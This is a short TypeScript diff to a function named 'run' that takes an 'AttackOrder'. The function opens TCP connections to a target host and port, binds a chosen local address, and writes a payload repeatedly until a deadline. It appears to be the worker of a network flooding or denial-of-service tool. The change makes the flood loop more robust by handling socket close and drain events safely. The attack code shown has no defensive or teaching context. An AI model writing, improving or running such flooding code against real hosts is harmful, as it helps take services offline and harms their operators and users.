@@ -29,14 +29,14 @@ async function run(order: AttackOrder): Promise<AttackResult> {
     const socket = connect({ host: order.host, port: order.port, localAddress })
     open.add(socket)
     socket.on('error', () => {}).on('data', () => {})
-    const closed = once(socket, 'close')
+    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
     await Promise.race([once(socket, 'connect').catch(() => {}), closed])
     if (text === '') {
       await Promise.race([closed, pause(Math.max(1, endsAt - performance.now()))])
       return
     }
     while (!socket.destroyed && performance.now() < endsAt) {
-      if (!socket.write(text)) await Promise.race([once(socket, 'drain'), closed, pause(1_000)])
+      if (!socket.write(text)) await Promise.race([once(socket, 'drain').catch(() => {}), closed, pause(1_000)])
       else await pause(1)
     }
     socket.destroy()
